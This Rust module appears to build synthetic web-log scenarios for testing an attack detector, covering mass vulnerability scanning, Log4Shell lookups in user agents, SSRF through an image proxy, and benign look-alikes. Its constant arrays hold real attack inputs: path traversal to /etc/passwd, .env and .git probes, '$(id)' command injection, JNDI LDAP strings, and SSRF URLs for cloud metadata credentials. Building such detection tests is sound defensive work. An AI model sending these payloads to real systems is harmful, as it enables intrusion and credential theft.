//! Texts of attacks, a few by each of very many, for an hour and more: what every host is sent, and what is more than that.

use super::expect::{ATTACK, Expectation, START_S, Scenario, found, nothing};
use super::scene::{around, hostile, lasting, times};
use crate::traffic::people::{Person, home, load};
use crate::traffic::row::combined;
use crate::traffic::sites::{BLOG, SHOP};
use crate::traffic::{Draw, Row, agents, together};

/// When it begins, seconds: after two hours and a half, since it takes two to know what is usual.
const FROM_S: f64 = 9_000.0;

const WEAKNESSES: [(&str, &str); 10] = [
    ("/cgi-bin/.%2e/.%2e/etc/passwd", ""),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
    ("/index.php", "s=/index/think/invokefunction&function=call_user_func_array"),
    ("/solr/admin/cores", "action=${jndi:ldap://x.example/a}"),
    ("/.git/config", ""),
    ("/.env", ""),
    ("/actuator/env", ""),
    ("/_ignition/execute-solution", ""),
    ("/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)"),
    ("/boaform/admin/formLogin", ""),
];

/// One of so many machines, each of a network of its own.
fn machine(draw: &mut Draw, first: u64, machines: u64) -> Person {
    let n = draw.below(machines);
    let agent = agents::current()[(n % 5) as usize].clone();
    Person { home: home(first + n, n), agent, returns: false }
}

/// So many machines try any of the weaknesses, so many a second between two times.
fn tried(draw: &mut Draw, (first, machines): (u64, u64), time: (f64, f64), per_s: f64) -> Vec<Row> {
    let all = times(draw, time, per_s);
    let ask = |at| {
        let (path, query) = *draw.pick(&WEAKNESSES);
        let mut row = machine(draw, first, machines).asks(&BLOG, at, path);
        row.query = (!query.is_empty()).then(|| query.to_owned());
        (row.status, row.bytes) = if draw.chance(0.8) { (404, 2_900) } else { (403, 150) };
        row
    };
    all.into_iter().map(ask).collect()
}

/// 400 machines, each of which tries one weakness every forty minutes or so.
pub fn of_many(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 141);
    let rows = hostile(tried(&mut draw, (20_000, 400), (FROM_S, FROM_S + 5_400.0), 0.15));
    let rows = together(vec![lasting(&BLOG, 1.5, FROM_S + 6_300.0, seed), rows]);
    let expect = Expectation {
        verdicts: ATTACK,
        start_s: FROM_S,
        requests: 0.5,
        collateral: 0.01,
        ..found(BLOG.host, &["vuln_scan", "exploit_burst", "content_discovery"], 1_800.0)
    };
    Scenario { rows: combined(rows), expect }
}

/// 120 machines ask for the start page twice each, with a lookup for a logging library in the user agent.
pub fn in_agents(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 142);
    let mut rows = Vec::new();
    for (n, at) in (0..240_u64).zip(times(&mut draw, (FROM_S, FROM_S + 1_800.0), 0.2)) {
        let text = format!("${{jndi:ldap://198.51.100.{}:1389/{n}}}", n % 250);
        let agent = (text.into(), "");
        let person = Person { home: home(21_000 + n / 2, n / 2), agent, returns: false };
        let mut row = person.asks(&SHOP, at, "/");
        row.referer = None;
        rows.push(row);
    }
    let rows = together(vec![lasting(&SHOP, 3.0, FROM_S + 2_700.0, seed), hostile(rows)]);
    let expect = Expectation {
        verdicts: ATTACK,
        start_s: FROM_S,
        collateral: 0.01,
        ..found(SHOP.host, &["exploit_burst", "vuln_scan"], 1_200.0)
    };
    Scenario { rows: combined(rows), expect }
}

const UNREACHABLE: [&str; 8] = [
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
    "http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F",
    "gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO",
    "file%3A%2F%2F%2Fetc%2Fhosts",
    "dict://127.0.0.1:11211/stat",
    "http%3A%2F%2F127.0.0.1%3A8080%2F",
    "http%3A%2F%2F10.0.0.7%2F",
    "http%3A%2F%2F%5B%3A%3A1%5D%2F",
];

/// A proxy of images, and what people have it fetch.
fn images(seed: u64) -> Vec<Row> {
    let ask = |(n, at): (u64, f64)| {
        let mut row = Person::visitor(n % 300).asks(&SHOP, at, "/img");
        row.query = Some(format!("url=https%3A%2F%2Fi.example%2F{n:x}.jpg"));
        row
    };
    let all = times(&mut Draw::of(seed, 146), (0.0, START_S + 2_700.0), 0.3);
    (0..).zip(all).map(ask).collect()
}

/// One address has the proxy ask for what only the server reaches, five times a minute for half an hour; most is refused.
pub fn fetched_from_within(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 147);
    let one = machine(&mut draw, 25_000, 1);
    let ask = |(n, at): (u64, f64)| {
        let mut row = one.asks(&SHOP, at, "/img");
        row.query = Some(format!("url={}&n={n}", draw.pick(&UNREACHABLE)));
        if draw.chance(0.7) {
            (row.status, row.bytes) = (403, 150);
        }
        row
    };
    let all = times(&mut Draw::of(seed, 148), (START_S, START_S + 1_800.0), 0.085);
    let rows = hostile((0..).zip(all).map(ask).collect());
    let rows = together(vec![around(&SHOP, 3.0, 1_800.0, seed), images(seed), rows]);
    let expect = Expectation {
        sources: 1.0,
        named: 1.0,
        visitors: 0,
        ..found(SHOP.host, &["vuln_scan", "exploit_burst"], 1_800.0)
    };
    Scenario { rows: combined(rows), expect }
}

/// Those who develop a site log in by it and are sent back to their own machine, and a page that somebody saved says where it is.
pub fn sent_back_home(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 149);
    let mut rows = Vec::new();
    for at in times(&mut draw, (START_S, START_S + 1_200.0), 0.5) {
        let one = machine(&mut draw, 26_000, 2);
        let port = 3_000 + draw.below(5_000);
        let (path, query) = match draw.below(4) {
            0 => ("/oauth/authorize", format!("redirect_uri=http%3A%2F%2F127.0.0.1%3A{port}%2Fcb")),
            1 => ("/account", format!("next=http://localhost:{port}/")),
            2 => ("/oauth/authorize", format!("redirect_uri=http%3A%2F%2F%5B%3A%3A1%5D%3A{port}")),
            _ => ("/hit", "url=file%3A%2F%2F%2FC%3A%2FUsers%2Fann%2Fpage.html".into()),
        };
        rows.push(Row { query: Some(query), ..one.asks(&SHOP, at, path) });
    }
    let rows = together(vec![around(&SHOP, 3.0, 1_200.0, seed), images(seed), rows]);
    Scenario { rows: combined(rows), expect: nothing() }
}

/// What a busy host is sent all day by hundreds of robots, twice as much of it for an hour, and single scanners beside it, each of
/// which asks thirty times in ten minutes.
pub fn of_every_day(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 143);
    let end_s = FROM_S + 7_200.0;
    let mut parts = vec![
        lasting(&BLOG, 1.5, end_s, seed),
        tried(&mut draw, (22_000, 600), (0.0, end_s), 0.07),
        tried(&mut draw, (22_000, 600), (FROM_S, FROM_S + 3_600.0), 0.07),
    ];
    for scanner in 0..9 {
        let from_s = 900.0 * scanner as f64 + draw.between(0.0, 300.0);
        parts.push(tried(&mut draw, (23_000 + scanner, 1), (from_s, from_s + 600.0), 0.04));
    }
    Scenario { rows: combined(together(parts)), expect: nothing() }
}

/// Few are sent ordinarily, and three times as many for an hour, from as many networks: a wave, and no harm to anybody.
pub fn of_a_wave(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 144);
    let end_s = FROM_S + 5_400.0;
    let parts = vec![
        lasting(&BLOG, 1.5, end_s, seed),
        tried(&mut draw, (24_000, 600), (0.0, end_s), 0.008),
        tried(&mut draw, (24_000, 600), (FROM_S, FROM_S + 3_600.0), 0.016),
    ];
    Scenario { rows: combined(together(parts)), expect: nothing() }
}

/// A page on programming whose address looks like an attack goes round: 500 people follow the link within an hour.
pub fn in_a_link(seed: u64) -> Scenario {
    let mut draw = Draw::of(seed, 145);
    let mut rows = Vec::new();
    for who in 0..500 {
        let person = Person { returns: false, ..Person::visitor(95_000 + who) };
        let mut row = person.asks(&BLOG, FROM_S + 3_600.0 * draw.unit(), "/why-eval(x)-is-evil");
        row.referer = draw.chance(0.8).then(|| "https://news.example/item?id=4412".to_owned());
        rows.extend(load(&BLOG, &mut draw, row, &person, true, 51));
    }
    let rows = together(vec![lasting(&BLOG, 1.5, FROM_S + 4_500.0, seed), rows]);
    Scenario { rows: combined(rows), expect: nothing() }
}
